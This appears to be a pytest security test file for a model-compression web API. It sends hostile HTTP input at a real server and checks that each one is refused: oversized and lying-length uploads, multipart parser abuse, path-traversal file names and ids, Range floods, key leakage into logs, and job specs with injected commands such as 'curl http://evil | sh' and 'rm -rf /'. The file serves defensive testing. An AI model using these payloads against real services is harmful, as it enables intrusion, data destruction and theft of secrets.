"""Hostile HTTP: lying sizes, multipart abuse, path tricks in ids and file names, Range floods, keys in logs and
job specs that carry commands.

Everything runs against the real app on a migrated PostgreSQL; where the wire itself matters (a Content-Length
that lies, chunked bodies, literal ``../`` in a request line, a server that must stay responsive, what lands in
its log) a real ``squeeze serve`` process is spoken to over raw sockets.
"""

from __future__ import annotations

import json
import os
import socket
import statistics
import threading
import time
import uuid
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis
from fastapi.testclient import TestClient

from tests.conftest import REDIS_URL, queue_key
from tests.support.models import digits_npz_bytes, digits_onnx_bytes
from tests.support.routes import api_routes
from tests.support.service import Processes, create_key, free_port, wait_for, wait_healthy

SMALL_LIMIT = 4096
BOUNDARY = b"squeeze-hostile-0123456789abcdef"
MULTIPART = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY.decode()}"}
PASSWD_FIRST_LINE = Path("/etc/passwd").read_bytes().splitlines()[0]
# What uvicorn itself answers (without our envelope) when a request line or header is not HTTP at all.
HTTP_LAYER_REFUSAL = b"Invalid HTTP request received."


# --- a real server ---------------------------------------------------------------------------------------------


@dataclass
class Server:
    name: str
    port: int
    env: dict[str, str]
    procs: Processes

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def tmp_dir(self) -> Path:
        return Path(self.env["SQUEEZE_DATA_DIR"]) / "blobs" / "tmp"

    @property
    def pid(self) -> int:
        return self.procs.procs[self.name].pid

    def new_key(self) -> str:
        return create_key(self.env, f"hostile-{uuid.uuid4().hex[:8]}")

    def client(self, key: str) -> httpx.Client:
        return httpx.Client(base_url=self.base_url, headers={"Authorization": f"Bearer {key}"}, timeout=30)

    def log(self) -> str:
        return self.procs.log(self.name)

    def no_upload_in_flight(self) -> bool:
        """No temporary upload file exists, and the server holds none open (so none is about to be written)."""
        fds = Path(f"/proc/{self.pid}/fd")
        open_tmp = []
        for fd in fds.iterdir():
            try:
                open_tmp.append(Path(os.readlink(fd)).parent == self.tmp_dir)
            except OSError:  # closed while we looked
                continue
        return not any(open_tmp) and not any(self.tmp_dir.iterdir())


def _serve(service_env: dict[str, str], logdir: Path, name: str, extra: dict[str, str]) -> Iterator[Server]:
    env = {**service_env, **extra}
    procs = Processes(logdir, env)
    port = free_port()
    procs.start(name, "serve", "--no-worker", "--port", str(port))
    try:
        wait_healthy(f"http://127.0.0.1:{port}", timeout=60)
        yield Server(name, port, env, procs)
    finally:
        procs.stop_all()


@pytest.fixture(scope="module")
def small_server(service_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """``squeeze serve`` with a 4 KiB upload limit."""
    extra = {"SQUEEZE_MAX_UPLOAD_BYTES": str(SMALL_LIMIT)}
    yield from _serve(service_env, tmp_path_factory.mktemp("small-logs"), "small", extra)


@pytest.fixture(scope="module")
def server(service_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """``squeeze serve`` with the default (8 GiB) upload limit, so abusive bodies reach the multipart parser."""
    yield from _serve(service_env, tmp_path_factory.mktemp("server-logs"), "server", {})


# --- a raw HTTP/1.1 client: sends exactly the bytes it is given ------------------------------------------------


@dataclass
class RawResponse:
    status: int
    headers: dict[str, str]
    body: bytes
    elapsed: float = 0.0

    def error_code(self) -> str:
        """The envelope's code; fails the test when the body is not the one error envelope."""
        doc = json.loads(self.body)
        assert set(doc) == {"error"} and set(doc["error"]) == {"code", "message", "details"}, doc
        return str(doc["error"]["code"])


class RawConnection:
    """One TCP connection. Bodies are written by a second thread so the server may answer (and stop reading)
    before a hostile body is fully sent, as it should."""

    def __init__(self, port: int, timeout: float = 15) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.timeout = timeout
        self.buf = b""
        self.closed = False
        self.senders: list[threading.Thread] = []

    def send(self, *pieces: bytes | Iterable[bytes]) -> None:
        def run() -> None:
            try:
                for piece in pieces:
                    for chunk in [piece] if isinstance(piece, bytes) else piece:
                        self.sock.sendall(chunk)
            except OSError:
                pass  # the server answered and closed before reading everything: allowed

        t = threading.Thread(target=run, daemon=True)
        t.start()
        self.senders.append(t)

    def response(self) -> RawResponse:
        """The next complete response."""
        start = time.monotonic()
        while True:
            parsed = self._parse()
            if parsed is not None:
                parsed.elapsed = time.monotonic() - start
                return parsed
            if self.closed:
                raise ConnectionError(f"closed without a complete response; got {self.buf[:300]!r}")
            self._recv(start)

    def responses_until_closed(self) -> list[RawResponse]:
        out: list[RawResponse] = []
        start = time.monotonic()
        while True:
            while (parsed := self._parse()) is not None:
                out.append(parsed)
            if self.closed:
                return out
            self._recv(start)

    def close(self) -> None:
        self.sock.close()
        for t in self.senders:
            t.join(timeout=5)

    def __enter__(self) -> RawConnection:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def _recv(self, start: float) -> None:
        if time.monotonic() - start > self.timeout:
            raise TimeoutError(f"no answer within {self.timeout}s; got {self.buf[:300]!r}")
        try:
            data = self.sock.recv(65536)
        except ConnectionResetError:
            data = b""
        if data:
            self.buf += data
        else:
            self.closed = True

    def _parse(self) -> RawResponse | None:
        end = self.buf.find(b"\r\n\r\n")
        if end == -1:
            return None
        lines = self.buf[:end].decode("latin-1").split("\r\n")
        headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
        rest = self.buf[end + 4 :]
        if "content-length" in headers:
            n = int(headers["content-length"])
            if len(rest) < n:
                return None
            body, self.buf = rest[:n], rest[n:]
        elif self.closed:  # no length: the body runs to the end of the connection
            body, self.buf = rest, b""
        else:
            return None
        return RawResponse(int(lines[0].split()[1]), headers, body)


def request_head(method: str, target: str, key: str | None = None, headers: dict[str, str] | None = None) -> bytes:
    lines = [f"{method} {target} HTTP/1.1", "Host: 127.0.0.1"]
    if key is not None:
        lines.append(f"Authorization: Bearer {key}")
    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def roundtrip(port: int, head: bytes, *body: bytes | Iterable[bytes], timeout: float = 15) -> RawResponse:
    with RawConnection(port, timeout) as conn:
        conn.send(head, *body)
        return conn.response()


def multipart(*parts: bytes, boundary: bytes = BOUNDARY) -> bytes:
    return b"".join(b"--" + boundary + b"\r\n" + p + b"\r\n" for p in parts) + b"--" + boundary + b"--\r\n"


def file_part(data: bytes, filename: bytes = b"f.bin") -> bytes:
    return b'Content-Disposition: form-data; name="file"; filename="' + filename + b'"\r\n\r\n' + data


def field_part(name: str, value: bytes) -> bytes:
    return f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value


def chunked(data: bytes, size: int = 1000) -> Iterator[bytes]:
    for i in range(0, len(data), size):
        piece = data[i : i + size]
        yield f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
    yield b"0\r\n\r\n"


def stored_models(server: Server, key: str) -> list[dict[str, Any]]:
    with server.client(key) as c:
        return list(c.get("/v1/models").raise_for_status().json()["items"])


# --- 1. sizes are counted while streaming, whatever the headers say ---------------------------------------------


def test_chunked_upload_one_byte_over_the_limit_is_413(small_server: Server, clean_db: None) -> None:
    key = small_server.new_key()
    te = {"Transfer-Encoding": "chunked"}
    port = small_server.port
    # at the limit: received in full, then refused as not a model (not as too large)
    r = roundtrip(
        port, request_head("POST", "/v1/models", key, te | MULTIPART), chunked(multipart(file_part(b"z" * SMALL_LIMIT)))
    )
    assert r.status == 422 and r.error_code() == "invalid_model"
    r = roundtrip(
        port,
        request_head("POST", "/v1/models", key, te | MULTIPART),
        chunked(multipart(file_part(b"z" * (SMALL_LIMIT + 1)))),
    )
    assert r.status == 413 and r.error_code() == "payload_too_large"
    r = roundtrip(
        port,
        request_head("POST", "/v1/datasets", key, te | {"Content-Type": "application/octet-stream"}),
        chunked(b"z" * (SMALL_LIMIT + 1)),
    )
    assert r.status == 413 and r.error_code() == "payload_too_large"
    assert stored_models(small_server, key) == []
    wait_for(small_server.no_upload_in_flight, timeout=10, what="no upload left in blobs/tmp")


def test_lying_content_length_cannot_smuggle_a_larger_upload(small_server: Server, clean_db: None) -> None:
    key = small_server.new_key()
    body = multipart(file_part(b"z" * (2 * SMALL_LIMIT)))
    declared = 300  # the part's headers and the start of its data: no closing boundary within it
    head = request_head("POST", "/v1/models", key, MULTIPART | {"Content-Length": str(declared)})

    # In one write, as an attacker would send it: the bytes past Content-Length are never part of the upload.
    with RawConnection(small_server.port) as conn:
        conn.send(head + body)
        responses = conn.responses_until_closed()
    assert responses and {r.status for r in responses} <= {400, 413}, responses

    # Step by step, so the server's answer to the declared bytes is seen: a body cut short is refused, not
    # inspected as if complete; what follows is not HTTP and ends the connection.
    with RawConnection(small_server.port) as conn:
        conn.send(head + body[:declared])
        first = conn.response()
        assert first.status in (400, 413) and first.error_code() in ("bad_multipart", "payload_too_large"), first
        conn.send(body[declared:])
        rest = conn.responses_until_closed()
    assert [r.status for r in rest] in ([], [400]), rest

    wait_for(small_server.no_upload_in_flight, timeout=10, what="no upload left in blobs/tmp")
    assert stored_models(small_server, key) == []
    assert "Traceback" not in small_server.log()


# --- 2. multipart abuse: every body gets a prompt 4xx, and the server keeps answering others --------------------


@dataclass
class HealthPoller:
    """Polls ``/healthz`` on its own connection for as long as it runs, recording each latency."""

    base_url: str
    latencies: list[float] = field(default_factory=list)
    failures: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with httpx.Client(base_url=self.base_url, timeout=10) as c:
            while not self._stop.is_set():
                t0 = time.monotonic()
                try:
                    status = c.get("/healthz").status_code
                except httpx.HTTPError as exc:
                    self.failures.append(repr(exc))
                    continue
                self.latencies.append(time.monotonic() - t0)
                if status != 200:
                    self.failures.append(f"status {status}")
                self._stop.wait(0.01)

    def __enter__(self) -> HealthPoller:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(timeout=15)


def _prefixes_of_the_boundary(total: int) -> bytes:
    """Every proper prefix of CRLF--BOUNDARY, over and over: each one starts a match the parser must abandon."""
    delimiter = b"\r\n--" + BOUNDARY
    unit = b"".join(delimiter[:k] + b"x" for k in range(1, len(delimiter)))
    return (unit * (total // len(unit) + 1))[:total]


MB = 1024 * 1024
ABUSIVE_BODIES: dict[str, tuple[bytes, set[str]]] = {
    # What a body is, and the error codes it may be refused with.
    "boundary prefixes in the file": (multipart(file_part(_prefixes_of_the_boundary(3 * MB))), {"invalid_model"}),
    "boundary prefixes, never closed": (
        b"--" + BOUNDARY + b"\r\n" + file_part(_prefixes_of_the_boundary(3 * MB)),
        {"bad_multipart"},
    ),
    "boundary prefixes in a form field": (
        multipart(field_part("name", _prefixes_of_the_boundary(1 * MB)), file_part(b"x")),
        {"field_too_long"},
    ),
    "boundary prefixes before the first boundary": (
        _prefixes_of_the_boundary(1 * MB) + multipart(file_part(b"x")),
        {"bad_multipart", "file_missing"},
    ),
    "CRLF flood as the file": (multipart(file_part(b"\r\n" * (1 * MB))), {"invalid_model"}),
    "CR flood as the file": (multipart(file_part(b"\r" * (2 * MB))), {"invalid_model"}),
    "LF flood as the file": (multipart(file_part(b"\n" * (2 * MB))), {"invalid_model"}),
    "CRLF flood where headers go": (b"--" + BOUNDARY + b"\r\n" + b"\r\n" * MB, {"bad_multipart"}),
    "LF flood where headers go": (b"--" + BOUNDARY + b"\r\n" + b"\n" * (2 * MB), {"bad_multipart"}),
    # A preamble is allowed (RFC 2046): skipped, then the one-byte file is refused as not a model.
    "CRLF flood before the first boundary": (b"\r\n" * MB + multipart(file_part(b"x")), {"invalid_model"}),
    "a non-file field over 4 KiB": (multipart(field_part("name", b"n" * 4097), file_part(b"x")), {"field_too_long"}),
    "thousands of fields": (
        multipart(*(field_part(f"f{i}", b"v") for i in range(5000)), file_part(b"x")),
        {"too_many_fields"},
    ),
    "a part with a 64 KiB header": (
        multipart(b"X-Pad: " + b"p" * (64 * 1024) + b"\r\n" + file_part(b"x")),
        {"bad_multipart"},
    ),
    "a part with thousands of headers": (
        multipart(b"".join(b"X-H%d: v\r\n" % i for i in range(5000)) + file_part(b"x")),
        {"bad_multipart"},
    ),
    "a header name with no end": (b"--" + BOUNDARY + b"\r\n" + b"H" * (2 * MB), {"bad_multipart"}),
}


def test_multipart_abuse_is_refused_promptly_while_health_stays_fast(server: Server, clean_db: None) -> None:
    key = server.new_key()
    answers: dict[str, tuple[int, str, float]] = {}
    with HealthPoller(server.base_url) as poller:
        wait_for(lambda: len(poller.latencies) >= 3, timeout=10, what="the health poller to start")
        for what, (body, codes) in ABUSIVE_BODIES.items():
            head = request_head("POST", "/v1/models", key, MULTIPART | {"Content-Length": str(len(body))})
            r = roundtrip(server.port, head, [body[i : i + 256 * 1024] for i in range(0, len(body), 256 * 1024)])
            answers[what] = (r.status, r.error_code(), r.elapsed)
            assert 400 <= r.status < 500 and r.error_code() in codes, (what, r)
            assert r.elapsed < 5, (what, r.elapsed)
        samples = len(poller.latencies)
        wait_for(lambda: len(poller.latencies) >= samples + 3, timeout=10, what="health polls after the abuse")

    assert not poller.failures, poller.failures
    worst = max(poller.latencies)
    p99 = statistics.quantiles(poller.latencies, n=100)[98] if len(poller.latencies) >= 2 else worst
    assert worst < 1.0, (worst, p99, answers)
    with server.client(key) as c:
        assert c.get("/readyz").status_code == 200
        assert c.get("/v1/models").json()["items"] == []
    wait_for(server.no_upload_in_flight, timeout=10, what="no upload left in blobs/tmp")
    assert "Traceback" not in server.log()


# --- 3. client file names are display names, never paths --------------------------------------------------------

HOSTILE_FILENAMES: list[tuple[bytes, str]] = [
    # (file name as sent, the display name it becomes)
    (b"../../etc/cron.d/x", "../../etc/cron.d/x"),
    (b"/etc/passwd", "/etc/passwd"),
    (b"..\\..\\..\\windows\\x", "..\\..\\..\\windows\\x"),
    (b"%2e%2e%2f%2e%2e%2fetc%2fcron.d%2fx", "%2e%2e%2f%2e%2e%2fetc%2fcron.d%2fx"),
    (b"x\x00.onnx", "x.onnx"),  # PostgreSQL cannot store NUL; control characters are dropped
    (b"evil\nname.onnx", "evilname.onnx"),
    (b"\x1b[2J\tx\x7f.onnx", "[2Jx.onnx"),  # terminal escapes and tabs go too
    (b"../x\x00/../../etc/cron.d/x", "../x/../../etc/cron.d/x"),
    (b"\xff\xfe../x", "\ufffd\ufffd../x"),
]


def _files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize(("sent", "shown"), HOSTILE_FILENAMES, ids=[repr(s)[2:-1] for s, _ in HOSTILE_FILENAMES])
def test_client_file_names_are_display_names_only(
    client: TestClient, alice: dict[str, str], data_dir: Path, sent: bytes, shown: str
) -> None:
    assert not Path("/etc/cron.d/x").exists()
    before = _files_under(data_dir)
    r = client.post("/v1/models", headers=alice | MULTIPART, content=multipart(file_part(digits_onnx_bytes(), sent)))
    assert r.status_code == 201, r.text
    model = r.json()
    assert model["name"] == shown
    # The only new file is the blob, named by its sha256 inside the store.
    sha = model["sha256"]
    assert _files_under(data_dir) - before <= {data_dir / "blobs" / sha[:2] / sha[2:4] / sha}
    assert not [p for p in data_dir.rglob("*") if p.name in ("x", "passwd", "x.onnx", "evilname.onnx")]
    assert not Path("/etc/cron.d/x").exists()
    d = client.get(f"/v1/models/{model['id']}/download", headers=alice)
    assert d.status_code == 200 and d.content == digits_onnx_bytes()
    assert d.headers["content-disposition"] == f'attachment; filename="{model["id"]}.onnx"'
    assert client.get("/v1/models", headers=alice).json()["items"][0]["name"] == shown


def test_a_carriage_return_inside_a_part_header_is_malformed(client: TestClient, alice: dict[str, str]) -> None:
    body = multipart(file_part(digits_onnx_bytes(), b"x\r.onnx"))
    r = client.post("/v1/models", headers=alice | MULTIPART, content=body)
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_multipart"
    assert client.get("/v1/models", headers=alice).json()["items"] == []


def test_name_field_and_raw_body_name_are_display_names_only(
    client: TestClient, alice: dict[str, str], data_dir: Path
) -> None:
    before = _files_under(data_dir)
    body = multipart(field_part("name", b"../../etc/cron.d/x\x00"), file_part(digits_npz_bytes(), b"/etc/passwd"))
    r = client.post("/v1/datasets", headers=alice | MULTIPART, content=body)
    assert r.status_code == 201 and r.json()["name"] == "../../etc/cron.d/x", r.text
    raw = alice | {"Content-Type": "application/octet-stream"}
    r = client.post("/v1/models?name=..%2F..%2Fetc%2Fcron.d%2Fx%00%0A", headers=raw, content=digits_onnx_bytes())
    assert r.status_code == 201 and r.json()["name"] == "../../etc/cron.d/x", r.text
    r = client.post("/v1/models?name=%00%0A", headers=raw, content=digits_onnx_bytes())
    assert r.status_code == 201 and r.json()["name"] == f"model-{r.json()['sha256'][:12]}", r.text
    new = _files_under(data_dir) - before
    assert all(p.parent.parent.parent == data_dir / "blobs" for p in new), new
    assert not Path("/etc/cron.d/x").exists()


# --- 4. traversal payloads as ids: 400/404 with the envelope, never a file from outside the store ---------------

TRAVERSALS = [
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..\\..\\..\\..\\..\\..\\etc\\passwd",
    "..%5c..%5c..%5c..%5cetc%5cpasswd",
    "//proc/self/root/etc/passwd",
    "%2f%2fproc%2fself%2froot%2fetc%2fpasswd",
    "%00",
    "mdl_x%00.onnx",
    "..%00%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "..;/..;/..;/etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "%2e%2e",
    "..",
]


def _id_routes(app: Any) -> list[tuple[str, str]]:
    """(method, path) of every route with a path parameter that takes no request body."""
    found = sorted(
        (method, route.path)
        for route in api_routes(app.routes)
        if "{" in route.path and route.body_field is None
        for method in route.methods
    )
    expected = {
        ("GET", "/v1/models/{model_id}"),
        ("GET", "/v1/models/{model_id}/download"),
        ("DELETE", "/v1/models/{model_id}"),
        ("GET", "/v1/datasets/{dataset_id}"),
        ("GET", "/v1/datasets/{dataset_id}/download"),
        ("DELETE", "/v1/datasets/{dataset_id}"),
        ("GET", "/v1/jobs/{job_id}"),
        ("POST", "/v1/jobs/{job_id}/cancel"),
        ("GET", "/v1/artifacts/{artifact_id}"),
        ("GET", "/v1/artifacts/{artifact_id}/download"),
    }
    assert expected <= set(found), found
    return found


def _substitute(path: str, value: str) -> str:
    head, _, rest = path.partition("{")
    return head + value + rest.partition("}")[2]


def test_traversal_ids_are_400_or_404_on_every_id_route(
    client: TestClient, alice: dict[str, str], server: Server, data_dir: Path
) -> None:
    model = client.post("/v1/models", headers=alice, files={"file": ("m.onnx", digits_onnx_bytes())}).json()
    dataset = client.post("/v1/datasets", headers=alice, files={"file": ("d.npz", digits_npz_bytes())}).json()
    key = alice["Authorization"].removeprefix("Bearer ")
    seen: dict[int, int] = {}
    for method, path in _id_routes(client.app):
        for payload in TRAVERSALS:
            target = _substitute(path, payload)
            # Through the app (httpx resolves a literal ../ before sending, as browsers do) ...
            r = client.request(method, target, headers=alice)
            assert r.status_code in (400, 404), (method, target, r.status_code, r.text)
            assert set(r.json()) == {"error"} and r.json()["error"]["code"], (method, target, r.text)
            assert PASSWD_FIRST_LINE not in r.content
            # ... and on the wire, exactly as written, to a real server.
            w = roundtrip(server.port, request_head(method, target, key))
            assert w.status in (400, 404), (method, target, w)
            assert PASSWD_FIRST_LINE not in w.body
            if w.body != HTTP_LAYER_REFUSAL:
                assert w.error_code(), (method, target, w)
            seen[w.status] = seen.get(w.status, 0) + 1
    assert seen.get(404), seen
    # Nothing was deleted or cancelled by any of it.
    assert client.get(f"/v1/models/{model['id']}", headers=alice).status_code == 200
    assert client.get(f"/v1/datasets/{dataset['id']}", headers=alice).status_code == 200
    for sha in (model["sha256"], dataset["sha256"]):
        assert (data_dir / "blobs" / sha[:2] / sha[2:4] / sha).is_file()
    assert "Traceback" not in server.log()


def test_hostile_cursors_are_400(client: TestClient, alice: dict[str, str]) -> None:
    import base64

    def cursor(doc: Any) -> str:
        return base64.urlsafe_b64encode(json.dumps(doc).encode()).decode().rstrip("=")

    for path in ("/v1/models", "/v1/datasets", "/v1/jobs"):
        for bad in (
            cursor(["2026-01-01T00:00:00+00:00", "mdl_\u0000"]),
            cursor(["2026-01-01T00:00:00+00:00", "\ud800"]),
            cursor(["2026-01-01T00:00:00+00:00", "../../etc/passwd"]),
            cursor(["../../etc/passwd", "mdl_x"]),
            cursor({"a": 1}),
            "%00",
            "..%2f..%2fetc%2fpasswd",
        ):
            r = client.get(path, headers=alice, params={"cursor": bad})
            assert r.status_code in (400, 422), (path, bad, r.status_code, r.text)
            assert r.json()["error"]["code"] in ("invalid_cursor", "validation_error"), r.text


# --- 5. Range floods: answered at once, refused or bounded (the file once over); one range still works -------


def _seed_artifact(job_id: str, owner_key: str, sha256: str, size: int) -> str:
    """Record an artifact for a job as a worker would (the bytes are the model's, already in the store)."""
    from sqlalchemy import select

    from app.db import session_scope
    from app.tables import ApiKey, Artifact

    prefix = owner_key.split("_")[1]
    with session_scope() as s:
        owner = s.scalar(select(ApiKey).where(ApiKey.prefix == prefix))
        assert owner is not None
        art = Artifact(
            job_id=job_id,
            owner_id=owner.user_id,
            kind="model",
            format="onnx",
            filename="model.onnx",
            sha256=sha256,
            size_bytes=size,
        )
        s.add(art)
        s.flush()
        return art.id


def test_range_floods_answer_quickly_and_boundedly_and_one_range_works(server: Server, clean_db: None) -> None:
    key = server.new_key()
    onnx = digits_onnx_bytes()
    with server.client(key) as c:
        model = c.post("/v1/models", files={"file": ("m.onnx", onnx)}).raise_for_status().json()
        dataset = c.post("/v1/datasets", files={"file": ("d.npz", digits_npz_bytes())}).raise_for_status().json()
        job = c.post("/v1/jobs", json={"model_id": model["id"], "dataset_id": dataset["id"]}).raise_for_status().json()
        artifact = _seed_artifact(job["id"], key, model["sha256"], len(onnx))
        urls = {
            f"/v1/models/{model['id']}/download": onnx,
            f"/v1/artifacts/{artifact}/download": onnx,
            f"/v1/datasets/{dataset['id']}/download": digits_npz_bytes(),
        }
        floods = {
            "5000 disjoint": "bytes=" + ",".join(f"{2 * i}-{2 * i}" for i in range(5000)),
            "5000 overlapping": "bytes=" + ",".join("0-" for _ in range(5000)),
            "5000 suffixes": "bytes=" + ",".join(f"-{i + 1}" for i in range(5000)),
            "100 whole files": "bytes=" + ",".join("0-" for _ in range(100)),
            "100 single bytes": "bytes=" + ",".join(f"{3 * i}-{3 * i}" for i in range(100)),
        }
        for url, content in urls.items():
            for what, header in floods.items():
                t0 = time.monotonic()
                r = c.get(url, headers={"Range": header})
                elapsed = time.monotonic() - t0
                assert elapsed < 1.0, (url, what, elapsed)
                # Refused, or answered with no more than the file once over plus per-part framing.
                assert 400 <= r.status_code < 500 or r.status_code in (200, 206), (url, what, r.status_code)
                if r.status_code in (200, 206):
                    assert len(r.content) <= len(content) + 100 * 200, (url, what, len(r.content))
            r = c.get(url, headers={"Range": "bytes=10-19"})
            assert r.status_code == 206 and r.content == content[10:20], url
            assert r.headers["content-range"] == f"bytes 10-19/{len(content)}"
            r = c.get(url, headers={"Range": "bytes=-7"})
            assert r.status_code == 206 and r.content == content[-7:], url
            assert c.get(url).content == content


# --- 6. keys never reach the log, and a key in the query string is not a key ------------------------------------


def test_keys_never_appear_in_the_server_log(server: Server, clean_db: None) -> None:
    valid = server.new_key()
    unknown = f"sqz_{uuid.uuid4().hex[:12]}_{uuid.uuid4().hex}"  # well-formed, never issued
    malformed = f"not-a-key-{uuid.uuid4().hex}"
    start = len(server.log())
    requests: list[tuple[str, str, dict[str, str], int]] = [
        ("GET", "/v1/models", {"Authorization": f"Bearer {valid}"}, 200),
        ("GET", "/v1/models", {"Authorization": f"Bearer {unknown}"}, 401),
        ("GET", "/v1/models", {"Authorization": f"Bearer {malformed}"}, 401),
        ("GET", "/v1/models", {"Authorization": f"Basic {valid}"}, 401),
        ("GET", f"/v1/models?api_key={valid}", {}, 401),
        ("GET", f"/v1/models?token={valid}", {}, 401),
        ("GET", f"/v1/models?access_token={valid}&limit=5", {}, 401),
        ("GET", f"/v1/jobs?api_key={unknown}", {}, 401),
        ("POST", f"/v1/models?name=m&api_key={valid}", {"Content-Type": "application/octet-stream"}, 401),
        ("GET", f"/v1/models/{valid}", {"Authorization": f"Bearer {valid}"}, 404),
        ("GET", f"/v1/models?cursor={valid}", {"Authorization": f"Bearer {valid}"}, 400),
    ]
    with httpx.Client(base_url=server.base_url, timeout=30) as c:
        for method, url, headers, status in requests:
            r = c.request(method, url, headers=headers, content=b"x" if method == "POST" else None)
            assert r.status_code == status, (method, url, r.status_code, r.text)
            if status == 401:  # a refusal does not echo the credential it refused
                assert r.json()["error"]["code"] in ("missing_api_key", "invalid_api_key")
                assert not any(key in r.text for key in (valid, unknown, malformed)), (url, r.text)

    def logged_requests() -> int:
        return server.log()[start:].count(" HTTP/1.1")  # the access log's request lines, whatever the format

    wait_for(lambda: logged_requests() >= len(requests), timeout=10, what="every request in the access log")
    log = server.log()
    for key in (valid, unknown, malformed):
        assert key not in log
        # not even the secret: the part after "sqz_<prefix>_" (url-safe base64, which may itself hold "_")
        assert key.split("_", 2)[-1] not in log


# --- 7. job specs carrying commands, URLs, paths or absurd numbers: refused at the door, nothing enqueued --------


def _queued() -> dict[str, int]:
    r = redis.Redis.from_url(REDIS_URL)
    return {q: int(r.llen(queue_key(q))) for q in ("cpu", "gpu")}


PRUNE = {"op": "prune", "method": "magnitude", "sparsity": 0.5}


def _hostile_specs(model_id: str, dataset_id: str) -> list[tuple[str, dict[str, Any] | str, int]]:
    """(what, spec or raw JSON text, expected status)."""
    ids = {"model_id": model_id, "dataset_id": dataset_id}
    return [
        ("shell in scope", ids | {"steps": [PRUNE | {"scope": "global; rm -rf /"}]}, 422),
        ("shell in method", ids | {"steps": [{"op": "prune", "method": "magnitude$(reboot)", "sparsity": 0.5}]}, 422),
        ("shell in op", ids | {"steps": [{"op": "`id`", "method": "magnitude", "sparsity": 0.5}]}, 422),
        ("command field in a step", ids | {"steps": [PRUNE | {"cmd": "curl http://evil | sh"}]}, 422),
        ("script field", ids | {"script": "import os; os.system('id')"}, 422),
        ("notify url", ids | {"notify": "http://169.254.169.254/latest/meta-data/"}, 422),
        ("webhook url", ids | {"webhook": {"url": "file:///etc/passwd"}}, 422),
        ("output path", ids | {"output": "/etc/cron.d/x"}, 422),
        ("work dir", ids | {"evaluation": {"work_dir": "../../"}}, 422),
        ("device with shell", ids | {"device": "cuda; reboot"}, 422),
        ("batch size 0", ids | {"evaluation": {"batch_size": 0}}, 422),
        ("batch size 1e9", ids | {"evaluation": {"batch_size": 10**9}}, 422),
        ("latency runs 1e9", ids | {"evaluation": {"latency_runs": 1e9}}, 422),
        ("latency runs at top level", ids | {"latency_runs": 1e9}, 422),
        ("max samples 1e30", ids | {"evaluation": {"max_samples": 10**30}}, 422),
        ("negative warm-up", ids | {"evaluation": {"warmup_runs": -1}}, 422),
        (
            "huge calibration",
            ids | {"steps": [{"op": "quantize", "method": "int8_static", "calibration_samples": 2**63}]},
            422,
        ),
        (
            "sparsity NaN",
            f'{{"model_id": "{model_id}", "steps": [{{"op": "prune", "method": "magnitude", "sparsity": NaN}}]}}',
            422,
        ),
        (
            "sparsity Infinity",
            f'{{"model_id": "{model_id}", "steps": [{{"op": "prune", "method": "magnitude", "sparsity": -Infinity}}]}}',
            422,
        ),
        ("sparsity 1e308", ids | {"steps": [PRUNE | {"sparsity": 1e308}]}, 422),
        ("sparsity as a string", ids | {"steps": [PRUNE | {"sparsity": "0.5; rm -rf /"}]}, 422),
        ("ten thousand steps", ids | {"steps": [PRUNE] * 10_000}, 422),
        ("model id as a path", {"model_id": "../../etc/passwd", "dataset_id": dataset_id}, 404),
        ("model id as a URL", {"model_id": "http://169.254.169.254/", "steps": [PRUNE]}, 404),
        ("model id with NUL", {"model_id": "mdl_\u0000", "steps": [PRUNE]}, 404),
        ("model id lone surrogate", '{"model_id": "mdl_\\ud800", "steps": []}', 422),
        ("model id too long", {"model_id": "m" * 10_000, "steps": [PRUNE]}, 422),
        ("model id not a string", {"model_id": {"$ne": None}, "steps": [PRUNE]}, 422),
        ("dataset id as a path", {"model_id": model_id, "dataset_id": "../../../proc/self/environ"}, 404),
        ("dataset id with NUL", {"model_id": model_id, "dataset_id": "dst_\u0000"}, 404),
        ("not an object", "[]", 422),
        ("deep nesting, past what the JSON parser takes", '{"model_id": ' + "[" * 5000 + "]" * 5000 + "}", 400),
    ]


def test_hostile_job_specs_are_refused_and_nothing_is_enqueued(client: TestClient, alice: dict[str, str]) -> None:
    model = client.post("/v1/models", headers=alice, files={"file": ("m.onnx", digits_onnx_bytes())}).json()
    dataset = client.post("/v1/datasets", headers=alice, files={"file": ("d.npz", digits_npz_bytes())}).json()
    assert _queued() == {"cpu": 0, "gpu": 0}
    for what, spec, status in _hostile_specs(model["id"], dataset["id"]):
        if isinstance(spec, str):
            r = client.post("/v1/jobs", headers=alice | {"Content-Type": "application/json"}, content=spec)
        else:
            r = client.post("/v1/jobs", headers=alice, json=spec)
        assert r.status_code == status, (what, r.status_code, r.text[:500])
        error = r.json()["error"]
        assert set(error) == {"code", "message", "details"} and error["code"] and error["message"], what
        assert PASSWD_FIRST_LINE.decode() not in r.text
    assert _queued() == {"cpu": 0, "gpu": 0}
    assert client.get("/v1/jobs", headers=alice).json()["items"] == []
